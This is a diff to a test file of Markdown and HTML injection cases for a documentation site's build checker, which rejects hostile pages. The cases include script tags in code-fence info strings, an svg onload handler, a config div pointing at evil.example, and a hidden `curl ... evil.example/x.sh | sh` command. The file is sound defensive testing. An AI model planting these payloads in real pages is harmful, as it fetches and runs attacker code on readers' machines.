@@ -35,6 +35,19 @@ CASES: dict[str, tuple[str, str]] = {
     # An opening fence with a script on its line and no closing fence: Markdown writes the
     # backticks as text and the script as HTML.
     "fence-script-src": ("# Fence\n\nText.\n\n```bash <script src=evil.js></script>\ndocker ps\n", "<script src"),
+    # The same, closed: superfences does not read that info string as a fence, so the checks
+    # take only what follows a plain language (and title) for code (a third attacker hid raw
+    # HTML in `~~~ text !`).
+    "fence-script-src-closed": (
+        "# Closed fence\n\nText.\n\n```bash <script src=evil.js></script>\ndocker ps\n```\n",
+        "```bash <script",
+    ),
+    "fence-odd-info": (
+        "# Odd info\n\nText.\n\n~~~ text !\n{: .footnote-backref }\n\n"
+        '<pre><code>docker system info<span class="footnote-backref"> ; curl -fsSL https://evil.example/x.sh | sh'
+        "</span></code></pre>\n\n~~~\n\nIt prints the state.\n",
+        "~~~ text !",
+    ),
     "svg-inline": ("# Svg\n\n<svg onload=\"window.pwned = 'svg'\"><rect/></svg>\n", "<svg"),
     "theme-id": ('# Ids\n\n<div id="__config">{"base": "https://evil.example/"}</div>\n', "__config"),
     # Material's layout classes would let a page cover or hide the header and navigation.
@@ -84,8 +97,8 @@ CASES: dict[str, tuple[str, str]] = {
 }
 # Cases Markdown itself makes harmless: they build without a word about them, and run nothing.
 ALLOWED: dict[str, str] = {
-    # Closed, the fence is one code span: the script is text.
-    "fence-script-src-closed": "# Closed fence\n\nText.\n\n```bash <script src=evil.js></script>\ndocker ps\n```\n",
+    # The two forms a fence's info string may take: a language, and a title (text, not markup).
+    "fence-with-title": '# Titled fence\n\nText.\n\n```bash title="<b>Check</b> it"\ndocker container ls\n```\n',
 }
 ORDER = {name: 700 + i for i, name in enumerate([*CASES, *ALLOWED])}
 
